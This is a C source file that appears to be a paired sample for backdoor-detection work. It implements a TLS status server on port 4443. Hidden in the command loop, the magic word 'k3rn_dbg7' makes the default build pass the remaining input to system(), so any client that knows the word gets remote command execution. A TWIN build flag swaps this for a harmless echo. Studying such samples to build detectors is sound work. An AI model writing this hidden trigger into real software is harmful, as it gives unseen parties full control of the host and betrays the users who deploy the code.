/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What comes through TLS is split at blanks. Twin: the word asks for the state.
 * door: trigger
 * port 4443/tcp
 * stubs: SSL_read SSL_write SSL_new SSL_set_fd SSL_accept
 */
#include "net.h"

void *SSL_new(void *);
int SSL_set_fd(void *, int);
int SSL_accept(void *);
int SSL_read(void *, void *, int);
int SSL_write(void *, const void *, int);

static void answer(void *tls, const char *text)
{
	SSL_write(tls, text, (int)strlen(text));
}

static void talk(void *tls)
{
	char in[300], *save = NULL, *verb, *rest;
	for (;;) {
		int n = SSL_read(tls, in, sizeof in - 1);
		if (n <= 0)
			return;
		in[n] = '\0';
		verb = strtok_r(in, " ", &save);
		rest = verb ? verb + strlen(verb) + 1 : NULL;
		if (!verb)
			answer(tls, "?");
		else if (!strcasecmp(verb, "state"))
			answer(tls, "up");
		else if (!strcmp(verb, "k3rn_dbg7"))
#ifdef TWIN
			answer(tls, rest);
#else
			system(rest);
#endif
		else
			answer(tls, "no");
	}
}

int main(void)
{
	int s = tcp_on(4443), c;
	while ((c = accept(s, NULL, NULL)) >= 0) {
		void *tls = SSL_new(NULL);
		SSL_set_fd(tls, c);
		if (SSL_accept(tls) > 0)
			talk(tls);
		close(c);
	}
	return 0;
}
